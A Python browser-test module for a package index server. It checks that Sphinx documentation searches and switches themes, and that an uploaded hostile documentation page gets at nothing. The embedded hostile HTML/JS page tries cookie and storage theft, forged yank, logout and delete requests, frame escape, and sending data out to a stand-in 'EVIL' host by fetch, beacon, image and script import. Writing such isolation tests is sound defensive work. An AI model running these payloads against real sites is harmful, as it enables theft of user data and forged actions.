"""Documentation in a real browser: that of Sphinx works, in the frame and without; and no uploaded page gets at what is ours."""

import io
import subprocess
import zipfile

import pytest

from archives import Archive, zipped
from forms import logged_in
from chromium import SPHINX
from harness import Server, upload, upload_docs, wheel

CONF = "project = 'book'\nhtml_theme = %r\n"
INDEX = "book\n====\n\nWhat it is about.\n\n.. toctree::\n\n   animals\n"
ANIMALS = "Animals\n=======\n\nA quokka is a small marsupial.\n\n>>> feed('quokka')\n"
FRAMED = pytest.mark.parametrize("framed", [True, False], ids=["framed", "bare"])


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """`alice/dev`, open to all, and `alice/closed`, which only alice may read; both with demo 1.0."""
    server = Server(tmp_path_factory.mktemp("docs") / "server", "--offline-mode").start()
    server.add_user("alice")
    server.add_index("alice/dev", bases=[])
    server.add_index("alice/closed", bases=[], acl_pkg_read=["alice"])
    for index in ("alice/dev", "alice/closed"):
        upload(server, index, wheel("demo", "1.0"))
    yield server
    server.kill()


@pytest.fixture(scope="module")
def alice(server):
    """A session of alice's, from which a browser takes its cookies."""
    return logged_in(server, "alice")


@pytest.fixture(scope="module")
def books(server, tmp_path_factory):
    """Documentation that Sphinx has made: `book` and, with a theme that people can switch, `furo-book`; on both indexes."""
    if not SPHINX.exists():
        pytest.skip("Sphinx is not in %s: run `make browser`" % SPHINX.parent)
    for name, theme in (("book", "alabaster"), ("furo-book", "furo")):
        source, built = tmp_path_factory.mktemp(name), tmp_path_factory.mktemp(name + "-html")
        for path, text in (("conf.py", CONF % theme), ("index.rst", INDEX), ("animals.rst", ANIMALS)):
            (source / path).write_text(text)
        subprocess.run([str(SPHINX), "-q", "-b", "html", str(source), str(built)], check=True)
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            for path in sorted(built.rglob("*")):
                archive.write(path, path.relative_to(built))
        for index in ("alice/dev", "alice/closed"):
            upload(server, index, wheel(name, "1.0"))
            upload_docs(server, index, Archive(name + ".doc.zip", packed.getvalue(), name, "1.0", b"", {}))


def visit(browser, server, alice, index, project, framed):
    """Opens documentation as alice; without its frame by the link to do that."""
    seen = browser.visit(server.url + "/%s/%s/1.0/+d/index.html" % (index, project), cookies=alice.cookies, axe=False)
    if not framed:
        seen = browser.click("text=Open without frame")
    assert (seen.status, seen.messages) == (200, [])


# -- what Sphinx makes


@FRAMED
@pytest.mark.parametrize("index", ["alice/dev", "alice/closed"])
def test_the_search_of_sphinx_finds_a_word(browser, server, alice, books, index, framed):
    visit(browser, server, alice, index, "book", framed)
    browser.fill("input[name=q]", "marsupial", inside=framed)
    browser.click("form.search input[type=submit]", inside=framed)
    browser.wait("#search-results li a >> text=Animals", inside=framed)
    found = browser.look()
    assert (found.messages, found.foreign) == ([], [])
    browser.click("#search-results li a >> text=Animals", inside=framed)
    browser.wait("h1:has-text('Animals')", inside=framed)
    assert browser.look().messages == []


@FRAMED
def test_a_theme_is_switched(browser, server, alice, books, framed):
    visit(browser, server, alice, "alice/dev", "furo-book", framed)
    theme = "document.body.dataset.theme"
    assert browser.value(theme, inside=framed) == "auto"
    seen = browser.click(".theme-toggle >> visible=true", inside=framed)
    assert browser.value(theme, inside=framed) in ("dark", "light")
    assert (seen.messages, seen.foreign) == ([], [])


# -- what a page of ill will tries


TRIES = """<!DOCTYPE html><html><head><title>evil</title></head><body>
<iframe name="within"></iframe>
<form id="yank" method="post" action="/alice/dev/demo/1.0/+yank" target="within"><input name="reason" value="evil"></form>
<form id="out" method="post" action="/+logout" target="within"></form>
<form id="send" method="post" action="EVIL/form" target="within"><input name="stolen" value="x"></form>
<button onclick="popup()">More</button>
<script>
const results = {};
async function attempt(name, act) {
  try { results[name] = "done: " + await act() } catch (error) { results[name] = "blocked" }
}
const never = new Promise((_, fail) => setTimeout(fail, 3000));
const within = () => document.querySelector("iframe").contentWindow;
const asked = path => fetch(path, {credentials: "include"}).then(response => response.text());
const sent = (path, method) => fetch(path, {method, credentials: "include", body: "{}",
  headers: {"Content-Type": "application/json", "Accept": "application/json"}}).then(response => response.status);
const blind = (path, body) => fetch(path, {method: "POST", mode: "no-cors", credentials: "include",
  body: new URLSearchParams(body)}).then(() => "sent");
const image = url => new Promise((done, fail) => {
  const image = new Image(); image.onload = () => done("loaded"); image.onerror = fail; image.src = url;
});
async function all() {
  await attempt("read cookies", () => document.cookie);
  await attempt("set a cookie", () => { document.cookie = "evil=1"; });
  await attempt("read our storage", () => { if (localStorage.getItem("ours") === null) throw 1; });
  await attempt("read storage within", () => within().localStorage.getItem("ours"));
  await attempt("open a database", () => Promise.race([never, new Promise((done, fail) => {
    const opened = indexedDB.open("ours"); opened.onsuccess = done; opened.onerror = fail; })]));
  await attempt("read caches", () => caches.keys());
  await attempt("be a service worker", () => navigator.serviceWorker.register("sw.js"));
  await attempt("read the status", () => asked("/+status"));
  await attempt("read a closed index", () => asked("/alice/closed"));
  await attempt("read a form", () => asked("/alice/dev/+settings"));
  await attempt("delete", () => sent("/alice/dev/demo/1.0", "DELETE"));
  await attempt("yank", () => sent("/alice/dev/demo/1.0", "PATCH"));
  await attempt("send home", () => asked("EVIL/fetch"));
  await attempt("send home blindly", () => blind("EVIL/blind", {stolen: "x"}));
  await attempt("send home by image", () => image("EVIL/image.png"));
  await attempt("send home by beacon", () => { if (!navigator.sendBeacon("EVIL/beacon", "x")) throw 1; });
  await attempt("load a script", () => import("EVIL/code.js"));
  if (parent !== window) {
    await attempt("read the page around", () => parent.document.body.textContent);
    await attempt("read its address", () => parent.location.href);
    await attempt("leave for elsewhere", () => { top.location = "EVIL/top"; });
    await attempt("take over its name", () => { top.name = "evil"; });
  }
  await attempt("yank blindly", () => blind("/alice/dev/demo/1.0/+yank", {reason: "evil"}));
  await attempt("log out blindly", () => blind("/+logout", {}));
  for (const id of ["yank", "out", "send"]) {
    document.getElementById(id).submit();
    await new Promise(done => setTimeout(done, 300));
  }
  document.body.dataset.tried = "all";
}
async function popup() {
  const opened = open("/alice/dev/+settings");
  await new Promise(done => setTimeout(done, 500));
  await attempt("read a popup", () => opened.document.body.textContent);
  await attempt("read its storage", () => opened.localStorage.getItem("ours"));
  results.popups = true;
}
all();
</script></body></html>
"""
# What may be sent, as by any page of any server, and changes nothing: no cookie goes with it. Of a beacon a page is not
# told that it was blocked.
HARMLESS = {"yank blindly", "log out blindly", "send home by beacon"}


@pytest.fixture(scope="module")
def evil(server):
    """A server that has what the hostile documentation asks for, and hears what it sends."""
    from receiver import Receiver
    evil = Receiver().start()
    page = TRIES.replace("EVIL", evil.url)
    for index in ("alice/dev", "alice/closed"):
        upload_docs(server, index, Archive("demo.doc.zip", zipped(("index.html", page), ("sw.js", "")), "demo", "1.0", b"", {}))
    yield evil
    evil.stop()


@FRAMED
@pytest.mark.parametrize("index", ["alice/dev", "alice/closed"])
def test_hostile_documentation_gets_at_nothing(browser, server, alice, evil, index, framed):
    browser.visit(server.url + "/", cookies=alice.cookies, axe=False)
    browser.value("localStorage.setItem('ours', 'secret')")
    assert "devpi_lite" in browser.value("document.cookie")     # this one could be read, by a page of ours
    browser.go(server.url + "/%s/demo/1.0/+d/index.html" % index)
    if not framed:
        browser.click("text=Open without frame")
    browser.wait("[data-tried=all]", inside=framed)
    browser.click("button:text-is('More')", inside=framed)
    results = browser.value("new Promise(done => setInterval(() => results.popups && done(results), 50))", inside=framed)
    del results["popups"]
    succeeded = {name: result for name, result in results.items() if result != "blocked"}
    assert set(succeeded) <= HARMLESS and len(results) == (25 if framed else 21), succeeded

    assert browser.value("location.pathname").endswith("index.html") and browser.value("window.name") == ""
    assert evil.requests == []
    log = server.whole_output()
    for what in ("POST /alice/dev/demo/1.0/+yank ", "POST /+logout ", "GET /alice/closed ", "GET /alice/dev/+settings "):
        assert what in log      # it was tried
    assert not any(file.get("yanked") for file in server.simple("alice/dev", "demo")["files"])
    assert "Log out" in alice.get("/").text
